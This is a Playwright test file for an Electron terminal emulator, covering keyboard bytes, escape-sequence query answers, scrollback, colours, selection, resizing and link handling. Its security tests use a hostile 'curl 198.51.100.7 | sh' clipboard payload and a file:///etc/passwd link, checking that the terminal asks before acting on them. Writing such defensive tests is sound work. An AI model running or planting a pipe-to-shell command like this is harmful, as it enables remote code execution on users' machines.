import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import type { App } from '#test/helpers/app';
import { casePath } from '#test/helpers/fixtures';
import { waitFor } from '#test/helpers/wait';
import {
  expectNoProblems,
  openApp,
  pane,
  panes,
  prefixed,
  run,
  screenText,
  shows,
  type,
} from '#test/helpers/window';

let app: App;
test.beforeEach(async () => {
  app = await openApp({ config: '[input]\nidle-threshold = 0\n' });
});
test.afterEach(async () => {
  expectNoProblems(app);
  await app.close();
});

async function onlyPane(): Promise<string> {
  const [first] = await panes(app);
  if (first === undefined) throw new Error('there is a pane');
  await pane(app, first.id).locator('.xterm').click();
  return first.id;
}

/** Starts a program that shows each byte it gets, one line a key press. */
async function showBytes(id: string): Promise<void> {
  const script = path.join(app.directory.path, 'bytes.py');
  fs.writeFileSync(
    script,
    `import os, sys, tty, termios
old = termios.tcgetattr(0)
tty.setraw(0)
os.write(1, b'READY\\r\\n')
while True:
    data = os.read(0, 1024)
    os.write(1, repr(data).encode() + b'\\r\\n')
    if data == b'q': break
termios.tcsetattr(0, termios.TCSADRAIN, old)
`,
  );
  await type(app, id, `clear; python3 ${script}`);
  await shows(app, id, /READY/);
}

async function bytesOf(id: string, press: () => Promise<void>, expected: string): Promise<void> {
  const lines = async (): Promise<string[]> =>
    (await screenText(app, id)).split('\n').filter((line) => line.startsWith("b'") || line.startsWith('b"'));
  const before = (await lines()).length;
  await press();
  await waitFor(`the bytes ${expected}`, async () => (await lines()).length > before);
  const got = (await lines())
    .slice(before)
    .map((line) => line.slice(2, -1))
    .join('');
  expect(got).toBe(expected);
}

test('every key reaches the program exactly once, whatever overlays were open before (input-12)', async () => {
  const id = await onlyPane();
  await showBytes(id);
  const keyboard = app.page.keyboard;
  // Open and close each overlay first: none of them may keep a key.
  await keyboard.press('Control+Shift+P');
  await expect(app.page.getByTestId('palette')).toBeVisible();
  await keyboard.press('Escape');
  await expect(app.page.getByTestId('palette')).toBeHidden();
  await keyboard.press('Control+Shift+F');
  await expect(app.page.getByTestId('find-bar')).toBeVisible();
  await keyboard.press('Escape');
  await expect(app.page.getByTestId('find-bar')).toBeHidden();
  for (const [key, bytes] of [
    ['Escape', '\\x1b'],
    ['Control+a', '\\x01'],
    ['Control+c', '\\x03'],
    ['Control+d', '\\x04'],
    ['Control+w', '\\x17'],
    ['Control+z', '\\x1a'],
    ['Control+Space', '\\x00'],
    ['Alt+b', '\\x1bb'],
    ['Alt+x', '\\x1bx'],
    ['F1', '\\x1bOP'],
    ['F10', '\\x1b[21~'],
    ['Tab', '\\t'],
    ['Shift+Tab', '\\x1b[Z'],
    ['Backspace', '\\x7f'],
    ['ArrowUp', '\\x1b[A'],
    ['Enter', '\\r'],
    ['Shift+Enter', '\\r'],
  ] as const) {
    await bytesOf(id, () => keyboard.press(key), bytes);
  }
  // The prefix waits for a key; twice it goes to the program.
  await bytesOf(
    id,
    async () => {
      await keyboard.press('Control+b');
      await keyboard.press('Control+b');
    },
    '\\x02',
  );
  // Text from an input method comes once, as composed.
  await bytesOf(
    id,
    async () => {
      const session = await app.page.context().newCDPSession(app.page);
      await session.send('Input.imeSetComposition', { text: 'に', selectionStart: 1, selectionEnd: 1 });
      await session.send('Input.insertText', { text: '日本' });
    },
    '\\xe6\\x97\\xa5\\xe6\\x9c\\xac',
  );
  await keyboard.press('q');
});

test('queries of a program get one answer each, and no mouse or drag bytes come by themselves', async () => {
  const id = await onlyPane();
  const script = path.join(app.directory.path, 'ask.py');
  fs.writeFileSync(
    script,
    `import os, select, tty, termios
old = termios.tcgetattr(0)
tty.setraw(0)
for query in (b'\\x1b[6n', b'\\x1b[c', b'\\x1b[>c', b'\\x1b]11;?\\x07', b'\\x1b[?2004$p', b'\\x1bP$qm\\x1b\\\\', b'\\x1b[>q', b'\\x1b]52;c;?\\x07', b'\\x1b[21t', b'\\x1b[18t'):
    os.write(1, query)
    got = b''
    while select.select([0], [], [], 0.7)[0]:
        got += os.read(0, 4096)
    os.write(1, b'\\r\\n' + repr(query).encode() + b' -> ' + repr(got).encode() + b'\\r\\n')
termios.tcsetattr(0, termios.TCSADRAIN, old)
print('ASKED')
`,
  );
  await type(app, id, `clear; python3 ${script}`);
  await shows(app, id, /^ASKED/m, 20_000);
  const text = (await screenText(app, id)).replace(/\n/g, ' ');
  const answer = (query: string): string => {
    const match = new RegExp(`b'${query.replace(/[\\[\]$?]/g, '\\$&')}' -> b['"](.*?)['"] `).exec(text);
    return match?.[1] ?? 'not asked';
  };
  expect(answer('\\x1b[6n')).toMatch(/^\\x1b\[\d+;\d+R$/);
  expect(answer('\\x1b[c').match(/\\x1b/g)).toHaveLength(1);
  expect(answer('\\x1b[>c').match(/\\x1b/g)).toHaveLength(1);
  expect(answer('\\x1b]11;?\\x07')).toMatch(/^\\x1b\]11;rgb:[0-9a-f/]+\\x1b\\\\$/);
  expect(answer('\\x1b[?2004$p').match(/\\x1b/g)).toHaveLength(1);
  expect(answer('\\x1b]52;c;?\\x07')).toBe('');
  expect(answer('\\x1b[21t')).toBe('');
});

test('a program asks before it writes the clipboard, and never reads it (sec-03)', async () => {
  const id = await onlyPane();
  await app.electron.evaluate(({ clipboard }) => {
    void clipboard.writeText('untouched');
  });
  await type(app, id, `clear; cat ${casePath('sec-03/osc52.bin')}`);
  const dialog = app.page.getByTestId('confirm-dialog');
  await expect(dialog).toContainText('curl 198.51.100.7 | sh');
  expect(await app.electron.evaluate(({ clipboard }) => clipboard.readText())).toBe('untouched');
  await app.page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  expect(await app.electron.evaluate(({ clipboard }) => clipboard.readText())).toBe('untouched');
  await shows(app, id, /asked/);
});

test('what a pane said before anybody looked is there when it comes into view, and no key is lost', async () => {
  const first = await onlyPane();
  const made = await run(app, 'create_window', { command: 'bash --norc', focus: false });
  const { pane: hidden } = made.json as { pane: { id: string } };
  await run(app, 'send_input', { pane_id: hidden.id, input: 'seq 1 300; echo last\n' });
  await waitFor('the last line', async () => {
    const { text } = (await run(app, 'read_pane', { pane_id: hidden.id })).json as { text: string };
    return /^last$/m.test(text);
  });
  const kept = (id: string) => app.page.evaluate((it) => window.fugueTest?.scrollback(it) ?? '', id);
  // The terminal host has it; the page has nothing to draw.
  expect((await kept(hidden.id)).trim()).toBe('');
  await prefixed(app, 'n');
  // Until its window is in view, keys belong to the pane that one still sees.
  await expect(pane(app, hidden.id).locator('.xterm-helper-textarea')).toBeFocused();
  await app.page.keyboard.type('echo seen-$((40+2))');
  await app.page.keyboard.press('Enter');
  await shows(app, hidden.id, /^seen-42$/m);
  expect(await kept(hidden.id)).toMatch(/^1\n2\n3\n[^]*\n299\n300\nlast\n/m);
  // From then on it is kept, whatever is in view.
  await prefixed(app, 'n');
  await shows(app, first, /[$#] ?$/m);
  await run(app, 'send_input', { pane_id: hidden.id, input: 'echo behind\n' });
  await expect.poll(() => kept(hidden.id)).toMatch(/^behind$/m);
});

test('panes share the rules of their colours, and a program changes only its own', async () => {
  const first = await onlyPane();
  await run(app, 'split_pane', { command: 'bash --norc' });
  const second = (await panes(app)).find(({ id }) => id !== first)?.id ?? '';
  for (const id of [first, second]) {
    await shows(app, id, /[$#] ?$/m);
    await type(app, id, "printf '\\e[31mred\\e[0m\\n'");
    await shows(app, id, /^red$/m);
  }
  const red = (id: string) =>
    pane(app, id)
      .locator('.xterm-rows .xterm-fg-1', { hasText: /^red$/ })
      .last()
      .evaluate((span) => getComputedStyle(span).color);
  const before = await red(first);
  expect(before).not.toBe(await pane(app, first).evaluate((element) => getComputedStyle(element).color));
  expect(await red(second)).toBe(before);
  const rules = await app.page.evaluate(() => ({
    own: [...document.querySelectorAll<HTMLStyleElement>('.xterm-screen > style')].map(
      ({ sheet }) => sheet?.cssRules.length ?? 0,
    ),
    shared: document.adoptedStyleSheets.map(({ cssRules }) => cssRules.length),
  }));
  expect(Math.max(...rules.own)).toBeLessThan(60);
  expect(rules.shared).toEqual([771]);
  await type(app, first, "printf '\\e]4;1;rgb:12/34/56\\a'");
  await expect.poll(() => red(first)).toBe('rgb(18, 52, 86)');
  expect(await red(second)).toBe(before);
  await app.page.evaluate(() => window.fugueTest?.tryTheme('light'));
  await expect.poll(() => red(second)).not.toBe(before);
  await run(app, 'close_pane', { pane_id: first });
  await expect.poll(() => app.page.evaluate(() => document.adoptedStyleSheets.length)).toBe(1);
});

test('copied text is what the program wrote, not screen rows (term-12)', async () => {
  const id = await onlyPane();
  await run(app, 'split_pane', { direction: 'horizontal', ratio: 0.6 });
  await type(app, id, `clear; cat ${casePath('term-12/wrap.bin')}`);
  await shows(app, id, /trailing {3}spaces/);
  const rows = (await screenText(app, id)).split('\n');
  const start = rows.findIndex((row) => row.startsWith('word word'));
  const columns = (await app.page.evaluate((pane) => window.fugueTest?.size(pane)?.columns, id)) ?? 0;
  const trailing = rows.findIndex((row) => row.startsWith('trailing'));
  await app.page.evaluate(([pane, row, length]) => window.fugueTest?.select(pane, row, 0, length), [
    id,
    start,
    (trailing - start) * columns + columns,
  ] as const);
  const selected = await app.page.evaluate((pane) => window.fugueTest?.selection(pane), id);
  expect(selected?.split('\n')[0]).toMatch(/^(?:word )+END$/);
  expect(selected?.split('\n')[1]).toBe('trailing   spaces   ');
  // Output does not take the selection away, and copying gives the same text.
  await run(app, 'send_input', {
    pane: id,
    input: 'for i in 1 2 3; do sleep 0.1; echo; done; echo over',
    submit: true,
  });
  await shows(app, id, /^over/m);
  expect(await app.page.evaluate((pane) => window.fugueTest?.selection(pane), id)).toBe(selected);
});

test('the view stays where one reads while a program redraws (term-06)', async () => {
  const id = await onlyPane();
  await type(app, id, `clear; bash ${casePath('term-06/redraw.sh')}; echo DONE`);
  await shows(app, id, /frame 3 row/);
  await pane(app, id).locator('.xterm').hover();
  await app.page.mouse.wheel(0, -1400);
  const top = (): Promise<string> =>
    app.page.evaluate((pane) => window.fugueTest?.viewportTop(pane) ?? '', id);
  await waitFor('history in view', async () => (await top()).startsWith('history line'));
  const before = await top();
  await waitFor(
    'the program to go on',
    async () => /DONE/.test((await run(app, 'read_pane', { pane: id })).stdout),
    { timeout: 20_000 },
  );
  expect(await top()).toBe(before);
});

test('dragging a divider tells the program few sizes and one final one (term-14)', async () => {
  const id = await onlyPane();
  const log = '/tmp/winch.log';
  await run(app, 'split_pane', { direction: 'horizontal' });
  await type(app, id, `clear; bash ${casePath('term-14/storm.sh')}`);
  await shows(app, id, /banner 6/);
  const divider = await app.page.getByTestId('divider').first().boundingBox();
  if (divider === null) throw new Error('there is a divider');
  fs.writeFileSync(log, '');
  const y = divider.y + divider.height / 2;
  await app.page.mouse.move(divider.x + 2, y);
  await app.page.mouse.down();
  const started = Date.now();
  for (let step = 0; Date.now() - started < 3000; step += 1) {
    await app.page.mouse.move(divider.x + 2 + 120 * Math.sin(step / 12), y);
  }
  await app.page.mouse.move(divider.x + 90, y);
  await app.page.mouse.up();
  await waitFor('page and program to agree', async () => {
    const size = await app.page.evaluate((pane) => window.fugueTest?.size(pane), id);
    const facts = (await panes(app)).find((entry) => entry.id === id);
    return (
      size?.columns === facts?.columns &&
      (await screenText(app, id)).includes(`width ${String(size?.columns)}`)
    );
  });
  const sizes = fs.readFileSync(log, 'utf8').trim().split('\n').length;
  expect(sizes).toBeLessThanOrEqual(15);
  expect((await screenText(app, id)).match(/banner 1 /g)).toHaveLength(1);
});

test('find marks matches and gives the focus back', async () => {
  const id = await onlyPane();
  await type(app, id, 'clear; printf "needle one\\nhay\\nneedle two\\n"');
  await shows(app, id, /needle two/);
  await app.page.keyboard.press('Control+Shift+F');
  await app.page.keyboard.type('needle');
  await expect(app.page.getByTestId('find-bar')).toContainText(/of [23]/);
  await app.page.keyboard.press('Escape');
  await app.page.keyboard.type('echo back-$((1+1))');
  await app.page.keyboard.press('Enter');
  await shows(app, id, /back-2/);
});

test('a link is opened only after the person has seen where it leads', async () => {
  const id = await onlyPane();
  await app.electron.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = (url: string) => {
      opened.push(url);
      return Promise.resolve();
    };
  });
  await type(
    app,
    id,
    `clear; printf '\\033]8;;https://example.test/path\\033\\\\click-here\\033]8;;\\033\\\\\\n\\033]8;;file:///etc/passwd\\033\\\\not-this\\033]8;;\\033\\\\\\n'`,
  );
  await shows(app, id, /^click-here/m);
  const screen = await pane(app, id).locator('.xterm-screen').boundingBox();
  const size = await app.page.evaluate((pane) => window.fugueTest?.size(pane), id);
  if (screen === null || !size) throw new Error('the terminal is on the screen');
  const rows = (await screenText(app, id)).split('\n');
  const click = async (text: string): Promise<void> => {
    const row = rows.findIndex((line) => line.startsWith(text));
    const x = screen.x + (screen.width / size.columns) * 3;
    const y = screen.y + (screen.height / size.rows) * (row + 0.5);
    await app.page.mouse.move(x - 2, y);
    await app.page.mouse.move(x, y, { steps: 3 });
    await app.page.keyboard.down('Control');
    await app.page.mouse.click(x, y);
    await app.page.keyboard.up('Control');
  };
  await click('click-here');
  const dialog = app.page.getByTestId('confirm-dialog');
  await expect(dialog).toContainText('example.test');
  expect(await app.electron.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).toEqual(
    [],
  );
  await dialog.getByRole('button', { name: /open/i }).click();
  await waitFor(
    'the link',
    async () =>
      (await app.electron.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).length ===
      1,
  );
  await click('not-this');
  expect(await app.electron.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).toEqual([
    'https://example.test/path',
  ]);
});

test('a program that ends says how, and Enter starts it again', async () => {
  const id = await onlyPane();
  await type(app, id, 'exit 7');
  const note = app.page.getByTestId(`exit-note-${id}`);
  await expect(note).toContainText('7');
  await expect(note).toContainText(/enter/i);
  await app.page.keyboard.press('Enter');
  await expect(note).toBeHidden();
  await type(app, id, 'echo again-$((1+1))');
  await shows(app, id, /again-2/);
  await prefixed(app, 'z');
});
